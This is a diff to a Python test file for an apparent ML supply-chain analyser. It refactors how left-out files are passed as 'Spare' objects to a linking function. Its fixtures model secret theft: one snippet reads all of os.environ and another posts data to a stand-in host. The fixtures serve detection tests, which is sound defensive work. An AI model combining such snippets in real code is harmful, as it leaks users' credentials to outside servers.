@@ -7,9 +7,10 @@ from collections.abc import Iterable
 import pytest
 
 from mlsupply.evidence.facets import CodeFact
-from mlsupply.evidence.linking import MAX_LOOKS, ROUNDS, Linked, linked
+from mlsupply.evidence.linking import MAX_LOOKS, ROUNDS, Linked, Spare, linked
 from mlsupply.evidence.module_facts import ModuleFacts, Neighbours, dotted_name
 from mlsupply.evidence.python import analyse
+from mlsupply.evidence.tokens import words_of
 
 READS = "import os\ndef gather():\n    return dict(os.environ)\n"
 SENDS = "import requests\ndef push(data):\n    requests.post('https://in.example/p', json=data)\n"
@@ -24,13 +25,18 @@ def facts(files: dict[str, str], parsed: Iterable[str] = ()) -> list[CodeFact]:
 def together(files: dict[str, str], parsed: Iterable[str] = ()) -> Linked:
     sources = {f"demo/{name}.py": text.encode() for name, text in files.items()}
     chosen = [f"demo/{name}.py" for name in parsed] or list(sources)
-    spare = {dotted_name(path)[0]: path for path in sources if path not in chosen}
+    spare = spares({path: text for path, text in sources.items() if path not in chosen})
 
     def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
         return [analyse.module(path, sources[path], "", known) for path, known in todo]
 
     first = [analyse.module(path, sources[path]) for path in chosen]
-    return linked(first, spare, sources, look)
+    return linked(first, spare, look)
+
+
+def spares(files: dict[str, bytes]) -> dict[str, Spare]:
+    """Files that the first look leaves out."""
+    return {dotted_name(path)[0]: Spare(path, text, b"\n".join(words_of(text))) for path, text in files.items()}
 
 
 def sent(found: list[CodeFact]) -> list[tuple[str, str, str]]:
@@ -96,9 +102,9 @@ def test_a_file_that_only_has_words_in_common_is_not_looked_at_again(text: str) 
         looks.extend(todo)
         return []
 
-    spare = {"demo.other": "demo/other.py", "demo.model": "demo/model.py"}
-    first = [analyse.module(path, text) for path, text in sources.items() if path not in spare.values()]
-    linked(first, spare, sources, look)
+    left = ("demo/other.py", "demo/model.py")
+    first = [analyse.module(path, text) for path, text in sources.items() if path not in left]
+    linked(first, spares({path: sources[path] for path in left}), look)
     assert looks == []
 
 
@@ -145,7 +151,7 @@ def test_an_honest_client_needs_no_second_look() -> None:
         looks.extend(todo)
         return [analyse.module(path, files[path], "", known) for path, known in todo]
 
-    linked([analyse.module(path, text) for path, text in files.items()], {}, files, look)
+    linked([analyse.module(path, text) for path, text in files.items()], {}, look)
     assert looks == []
 
 
